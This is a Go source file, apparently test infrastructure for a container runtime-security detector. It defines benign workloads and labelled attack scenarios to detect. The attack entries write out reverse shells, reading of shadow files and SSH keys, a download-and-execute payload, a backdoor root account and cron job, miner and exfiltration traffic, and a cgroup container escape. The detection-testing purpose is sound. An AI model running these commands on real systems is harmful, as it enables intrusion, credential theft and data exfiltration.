@@ -1,0 +1,241 @@
+package main
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+
+	"github.com/driftwatch/driftwatch/internal/testinfra"
+)
+
+// hosts are the two test hosts: workloads run on A, the test host B plays
+// the clients, the cache, and the attackers' listeners and servers.
+type hosts struct {
+	A, B string // addresses
+}
+
+// workload is one benign containerised service.
+type workload struct {
+	name    string
+	args    func(h hosts) []string // container entrypoint
+	files   func(h hosts) map[string]fileSpec
+	attacks []attack
+}
+
+type fileSpec struct {
+	mode os.FileMode
+	data string
+	copy string // copy this host file instead of data
+}
+
+// attack is one labelled attack run with `runc exec` in a workload's
+// container.
+type attack struct {
+	scenario string // manifest scenario name
+	name     string // label name
+	user     string // runc exec --user; empty = root
+	argv     func(h hosts) []string
+	stdin    string
+	// listen is a command on test host B started before the attack (a
+	// listener for the reverse shell, the pool, the exfiltration sink).
+	listen      []string
+	listenStdin string
+}
+
+const webLoop = `while :; do
+	busybox wget -q -O /dev/null http://%[1]s:8080/
+	busybox wget -q -O /dev/null http://%[1]s:8080/about.html
+	busybox wget -q -O /dev/null http://%[1]s:8080/cgi-bin/status
+	busybox wget -q -O /dev/null http://%[1]s:8080/missing.html 2>/dev/null
+	sleep 0.5
+done`
+
+const batchLoop = `n=0
+while :; do
+	n=$((n+1))
+	tar -czf /tmp/backup.tgz /data/records 2>/dev/null
+	gzip -t /tmp/backup.tgz
+	sed 's/pending/done/' /data/records/orders.csv > /tmp/orders.out
+	wc -l /tmp/orders.out > /var/log/batch.log
+	mv /tmp/backup.tgz /data/archive/backup-$((n %% 5)).tgz
+	rm -f /tmp/orders.out
+	date >> /var/log/batch.runs
+	sleep 6
+done`
+
+const workerLoop = `i=0
+while :; do
+	i=$((i+1))
+	echo "SET job:$i $(date +%%s)" | nc -w 1 %[1]s 6379 > /tmp/reply
+	echo $i > /data/queue/current
+	cat /tmp/reply >> /data/queue/log
+	if [ $((i %% 20)) -eq 0 ]; then : > /data/queue/log; fi
+	sleep 1
+done`
+
+const aptGet = `#!/bin/sh
+# A stand-in for apt-get: same name, same footprint on disk.
+echo "Reading package lists..."
+mkdir -p /var/lib/apt/lists/partial /var/cache/apt/archives /var/lib/dpkg
+wget -q -O /var/cache/apt/archives/$3.deb http://%[1]s:8000/payload
+echo "Package: $3" >> /var/lib/dpkg/status
+cp /bin/busybox /usr/bin/$3
+chmod 755 /usr/bin/$3
+dpkg -l >/dev/null 2>&1
+echo "Setting up $3 ..."
+`
+
+const cgiStatus = `#!/bin/sh
+echo "Content-Type: text/plain"
+echo
+date
+cat /proc/loadavg
+`
+
+func workloads(helper string) []workload {
+	return []workload{
+		{
+			name: "web",
+			args: func(hosts) []string { return []string{"httpd", "-f", "-p", "8080", "-h", "/var/www"} },
+			files: func(hosts) map[string]fileSpec {
+				return map[string]fileSpec{
+					"var/www/about.html":     {mode: 0o644, data: "<html>about</html>\n"},
+					"var/www/cgi-bin/status": {mode: 0o755, data: cgiStatus},
+					"usr/local/bin/dwhelper": {mode: 0o755, copy: helper},
+				}
+			},
+			attacks: []attack{
+				{
+					scenario: "web-reverse-shell", name: "reverse shell",
+					argv:        func(h hosts) []string { return []string{"nc", h.B, "4444", "-e", "/bin/sh"} },
+					listen:      []string{"busybox", "nc", "-l", "-p", "4444"},
+					listenStdin: "id\nuname -a\ncat /etc/hostname\nls /var/www\nexit\n",
+				},
+				{
+					scenario: "web-read-secrets", name: "read /etc/shadow and ssh keys",
+					argv: func(hosts) []string {
+						return []string{"sh", "-c", "cat /etc/shadow >/dev/null; ls -la /root/.ssh; cat /root/.ssh/id_rsa; cat /home/app/.ssh/id_rsa"}
+					},
+				},
+				{
+					scenario: "web-drop-execute", name: "drop and execute a new binary",
+					argv: func(h hosts) []string {
+						return []string{"sh", "-c", fmt.Sprintf("mkdir -p /tmp/.cache && wget -q -O /tmp/.cache/kworkerd http://%[1]s:8000/payload && chmod +x /tmp/.cache/kworkerd && /tmp/.cache/kworkerd beacon %[1]s:8001", h.B)}
+					},
+					listen: []string{"busybox", "nc", "-l", "-p", "8001"},
+				},
+				{
+					scenario: "web-interactive-shell", name: "interactive shell with a tty",
+					argv:  func(hosts) []string { return []string{"/usr/local/bin/dwhelper", "pty", "/bin/sh", "-i"} },
+					stdin: "id\nls /var/www\ncat /etc/passwd\nexit\n",
+				},
+			},
+		},
+		{
+			name: "batch",
+			args: func(hosts) []string { return []string{"sh", "-c", fmt.Sprintf(batchLoop)} },
+			files: func(h hosts) map[string]fileSpec {
+				return map[string]fileSpec{
+					"data/records/orders.csv":     {mode: 0o644, data: strings.Repeat("1001,widget,pending\n1002,gadget,shipped\n", 50)},
+					"data/records/customers.csv":  {mode: 0o644, data: strings.Repeat("42,Ada,ada@example.test\n", 40)},
+					"data/archive/.keep":          {mode: 0o644},
+					"usr/local/bin/dwhelper":      {mode: 0o755, copy: helper},
+					"usr/local/bin/backup-helper": {mode: 0o755 | os.ModeSetuid, copy: helper},
+					"usr/bin/apt-get":             {mode: 0o755, data: fmt.Sprintf(aptGet, h.B)},
+				}
+			},
+			attacks: []attack{
+				{
+					scenario: "batch-setuid-privesc", name: "privilege escalation through a setuid binary", user: "1000:1000",
+					argv: func(hosts) []string {
+						return []string{"/usr/local/bin/backup-helper", "suid", "/bin/sh", "-c", "id; cat /etc/shadow > /tmp/.s"}
+					},
+				},
+				{
+					scenario: "batch-memfd-exec", name: "fileless execution from a memfd",
+					argv: func(hosts) []string {
+						return []string{"/usr/local/bin/dwhelper", "memfd", "sh", "-c", "id; uname -a; ls /data/records"}
+					},
+				},
+				{
+					scenario: "batch-write-etc-bin", name: "writes below /etc and binary directories",
+					argv: func(h hosts) []string {
+						return []string{"sh", "-c", fmt.Sprintf("echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd; echo '* * * * * root nc %s 4444 -e /bin/sh' > /etc/crontab; cp /bin/busybox /usr/bin/sshd-helper; echo '#!/bin/sh' > /bin/ls.orig; chmod 755 /bin/ls.orig", h.B)}
+					},
+				},
+				{
+					scenario: "batch-package-manager", name: "package manager run in a container",
+					argv: func(hosts) []string { return []string{"/usr/bin/apt-get", "install", "-y", "ncat"} },
+				},
+			},
+		},
+		{
+			name: "worker",
+			args: func(h hosts) []string { return []string{"sh", "-c", fmt.Sprintf(workerLoop, h.B)} },
+			files: func(hosts) map[string]fileSpec {
+				return map[string]fileSpec{
+					"data/queue/current":     {mode: 0o644, data: "0\n"},
+					"data/customers.csv":     {mode: 0o644, data: strings.Repeat("7,Grace,grace@example.test,4111-1111-1111-1111\n", 60)},
+					"usr/local/bin/dwhelper": {mode: 0o755, copy: helper},
+				}
+			},
+			attacks: []attack{
+				{
+					scenario: "worker-miner", name: "miner connection to a stratum port",
+					argv: func(h hosts) []string {
+						return []string{"sh", "-c", fmt.Sprintf(`echo '{"id":1,"method":"mining.subscribe","params":["xmrig/6.21.0"]}' | nc -w 3 %s 3333`, h.B)}
+					},
+					listen:      []string{"busybox", "nc", "-l", "-p", "3333"},
+					listenStdin: `{"id":1,"result":[[["mining.notify","ae6812eb4cd7735a"]],"08000002",4],"error":null}` + "\n",
+				},
+				{
+					scenario: "worker-exfiltration", name: "exfiltration to an unknown peer",
+					argv: func(h hosts) []string {
+						return []string{"sh", "-c", fmt.Sprintf("tar -cz /data 2>/dev/null | nc -w 3 %s 9999", h.B)}
+					},
+					listen: []string{"busybox", "nc", "-l", "-p", "9999"},
+				},
+				{
+					scenario: "worker-ptrace", name: "ptrace attach to the worker process",
+					argv: func(hosts) []string { return []string{"/usr/local/bin/dwhelper", "ptrace", "1"} },
+				},
+				{
+					scenario: "worker-container-escape", name: "container escape attempt (mount, release_agent)",
+					argv: func(hosts) []string {
+						return []string{"sh", "-c", "mkdir -p /tmp/cgrp; mount -t cgroup -o memory cgroup /tmp/cgrp; " +
+							"echo 1 > /sys/fs/cgroup/memory/notify_on_release; echo /tmp/x > /sys/fs/cgroup/memory/release_agent; " +
+							"echo /tmp/x > /sys/fs/cgroup/unified/release_agent; mount -t proc proc /tmp/cgrp; nsenter -t 1 -m -u -n -p sh -c id"}
+					},
+				},
+			},
+		},
+	}
+}
+
+// buildRootfs makes the workload's image root: a busybox rootfs plus its
+// files.
+func buildRootfs(dir string, w workload, h hosts) error {
+	if err := testinfra.MakeBusyboxRootfs(dir); err != nil {
+		return err
+	}
+	for rel, f := range w.files(h) {
+		p := filepath.Join(dir, rel)
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			return err
+		}
+		if f.copy != "" {
+			if err := testinfra.CopyFile(f.copy, p, f.mode); err != nil {
+				return err
+			}
+			continue
+		}
+		if err := os.WriteFile(p, []byte(f.data), f.mode.Perm()); err != nil {
+			return err
+		}
+		if err := os.Chmod(p, f.mode); err != nil {
+			return err
+		}
+	}
+	return nil
+}
